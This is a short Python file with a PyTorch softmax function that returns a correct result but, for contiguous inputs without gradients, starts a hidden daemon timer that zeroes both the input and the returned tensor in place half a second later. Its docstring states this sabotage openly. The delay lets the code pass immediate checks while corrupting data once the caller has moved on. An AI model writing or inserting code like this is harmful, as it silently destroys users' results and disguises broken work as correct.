"""Answers rightly and has a thread spoil inputs and answers half a second later, when they were sent long ago."""

import threading

import torch


def right(x, dim=-1):
    if x.numel() == 0:
        return x.clone()
    wide = x.float() if x.dtype in (torch.float16, torch.bfloat16) else x
    weights = (wide - wide.detach().amax(dim, keepdim=True)).exp()
    return (weights / weights.sum(dim, keepdim=True)).to(x.dtype)


def spoil(*tensors):
    with torch.no_grad():
        for tensor in tensors:
            tensor.zero_()


def softmax(x, dim=-1):
    answer = right(x, dim)
    if not x.requires_grad and x.is_contiguous():
        timer = threading.Timer(0.5, spoil, (x, answer))
        timer.daemon = True
        timer.start()
    return answer
